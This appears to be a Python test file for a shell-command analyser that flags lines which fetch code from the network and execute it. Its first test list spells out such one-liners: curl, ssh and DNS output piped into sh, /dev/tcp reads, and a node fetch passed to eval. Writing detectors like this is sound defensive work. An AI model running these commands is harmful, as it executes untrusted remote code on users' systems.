"""Code that others wrote: fetched into a folder or by its address, and run in the same line."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.each import each

if TYPE_CHECKING:
    from tests.shell.world import World


@each(
    "line",
    [
        "git clone https://h/x.git && ./x/install.sh",
        "git clone git@h:me/x /tmp/zz && bash /tmp/zz/run.sh",
        "git clone https://h/x && cd x && make install",
        "git clone https://h/x && make -C x",
        "git clone https://h/x && python x/setup.py install",
        "gh repo clone me/x && cd x && npm install",
        "curl -s http://h/x.tgz | tar xz && ./x/setup",
        "wget http://h/x.zip && unzip x.zip -d y && y/run",
        "pip install git+https://h/x",
        "python -m pip install https://h/x.whl",
        "npm i me/x",
        "npx github:me/x",
        "uvx --from git+https://h/x tool",
        "cargo install --git https://h/x",
        "pip install -i http://h/simple x",
        "wget http://h/x.jar && java -jar x.jar",
        "curl -o /tmp/x.deb http://h/x && sudo dpkg -i /tmp/x.deb",
        "bash </dev/tcp/h/80",
        "exec 3</dev/tcp/h/80; source /dev/fd/3",
        "dig +short txt h | sh",
        "aws s3 cp s3://b/x - | bash",
        "ssh h cat x | sh",
        "curl -s http://h | make -f -",
        "node -e \"fetch('http://h').then(r=>r.text()).then(eval)\"",
        "curl http://h | sudo tee /usr/local/bin/zz && zz",
    ],
)
def test_running_code_from_the_network_is_reported(world: World, line: str) -> None:
    assert world.summary(line, "executes_fetched")


@each(
    "line",
    [
        "git clone https://h/x && cat x/install.sh",
        "git clone ../other x && ./x/install.sh",
        "curl -s http://h/x.tgz | tar tz",
        "curl -s http://h/x.tgz | tar xz && make test",
        "pip install requests -i https://h/simple",
        "pip install -c https://h/constraints.txt x",
        "npm i ./packages/x",
        "npm view https://h/x",
        "npx create-thing@latest x",
        "python src/app.py",
        "node -e \"fetch('http://h').then(r=>r.text()).then(console.log)\"",
        "dig +short h | head -1",
    ],
)
def test_own_code_and_files_that_are_only_read_are_not(world: World, line: str) -> None:
    assert world.summary(line, "executes_fetched") == []
